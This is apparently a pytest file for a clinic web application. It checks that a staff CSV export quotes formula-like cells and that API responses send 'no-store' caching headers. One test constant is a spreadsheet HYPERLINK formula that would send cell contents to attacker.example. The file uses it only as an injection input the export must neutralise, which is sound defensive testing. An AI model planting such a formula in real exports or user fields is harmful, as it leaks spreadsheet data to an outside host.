"""The CSV export cannot carry a spreadsheet formula; API answers are never cached."""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient

from clinic.api.tokens import create_token
from clinic.extensions import db
from clinic.staff.overview_views import spreadsheet_safe
from tests import factories
from tests.clinic.staff import support

pytestmark = pytest.mark.usefixtures("app_context")

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Dana Smith", "Dana Smith"),
        (-1.5, -1.5),
        ("", ""),
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_is_quoted(cell: object, written: object) -> None:
    assert spreadsheet_safe(cell) == (written,)


def test_a_display_name_that_is_a_formula_is_exported_quoted(client: FlaskClient) -> None:
    clinician = support.staff("clinician", queues=("emdr",), name=HYPERLINK)
    support.referral("emdr", status="accepted", assignee_id=clinician.id)
    support.sign_in(client, support.staff())

    response = client.get("/staff/queues/emdr/export.csv")

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [row["assignee"] for row in rows] == ["'" + HYPERLINK]
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def _bearer() -> dict[str, str]:
    token = create_token(factories.staff_user(email="api@example.org"), "test")
    db.session.commit()
    return {"Authorization": f"Bearer {token}"}


def test_every_api_answer_says_no_store(client: FlaskClient) -> None:
    headers = _bearer()
    created = client.post(
        "/api/v1/intakes",
        json={"path": "adult_self", "subject_age": 30, "answers": {"safety.now": 1}},
        headers=headers,
    )
    answers = [
        created,
        client.get(created.headers["Location"], headers=headers),
        client.get("/api/v1/intakes/00000000-0000-0000-0000-000000000000", headers=headers),
        client.post("/api/v1/intakes", json=[], headers=headers),
        client.get("/api/v1/intakes/x"),
        client.get("/api/v1/nothing", headers=headers),
        client.put("/api/v1/intakes", headers=headers),
    ]
    assert [a.status_code for a in answers] == [201, 200, 404, 422, 401, 404, 405]
    assert all(a.headers["Cache-Control"] == "no-store" for a in answers)
